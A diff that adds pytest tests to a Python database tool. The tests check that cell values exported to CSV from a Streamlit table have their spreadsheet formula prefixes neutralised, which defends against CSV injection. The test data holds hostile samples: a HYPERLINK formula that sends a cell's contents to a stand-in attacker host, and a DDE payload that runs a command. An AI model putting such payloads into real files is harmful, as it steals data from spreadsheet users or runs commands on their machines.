@@ -327,3 +327,48 @@ def test_cli_exhaustion_proves_the_chosen_services_pool(pg: PgServer, tmp_path: 
                                                           engine.max_overflow)
     assert d["exhaustion"]["timed_out"] is True
     assert pg.password not in p.stdout and pg.password not in p.stderr
+
+
+FORMULAS = ['=HYPERLINK("http://attacker.example/?x="&A1,"open")', "@SUM(1+1)*cmd|' /C calc'!A0",
+            "+1+cmd", "-2+3"]
+
+
+def test_live_step_table_is_safe_to_download_as_csv(pg: PgServer) -> None:
+    """application_name values are the server's text: in the table (whose toolbar has
+    "Download as CSV") none starts with a formula prefix (OWASP CSV injection)."""
+    from streamlit.testing.v1 import AppTest
+
+    from wizard.export.cells import FORMULA_PREFIXES
+
+    n = names()
+    query = share.to_flat(estate_for(n))
+
+    async def run() -> AppTest:
+        async with opened(pg, [(f, 1, False) for f in FORMULAS]):
+            at = AppTest.from_function(_live_step_script, args=(
+                pg.host, pg.port, pg.user, pg.database, pg.password, query),
+                default_timeout=60)
+            return await asyncio.get_running_loop().run_in_executor(None, at.run)
+
+    main = sys.modules["__main__"]
+    try:
+        at = asyncio.run(run())
+    finally:
+        sys.modules["__main__"] = main
+    assert not at.exception, [e.value for e in at.exception]
+    table = at.dataframe[0].value
+    cells = [str(v) for v in table.to_numpy().ravel() if isinstance(v, str)]
+    cells += [str(c) for c in table.columns]
+    assert not [c for c in cells if c.startswith(FORMULA_PREFIXES)], cells
+    names_shown = set(table["application_name"])
+    for f in FORMULAS:  # every one is there, as text
+        assert "'" + f in names_shown
+
+
+@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "\uff1d1+1"])
+def test_formula_prefixes_are_neutralised(cell: str) -> None:
+    from wizard.export.cells import formula_safe, safe_rows
+
+    assert formula_safe(cell) == "'" + cell
+    assert safe_rows([{"a": cell, "n": -1}]) == [{"a": "'" + cell, "n": -1}]
+    assert formula_safe("api") == "api" and formula_safe(-3) == -3
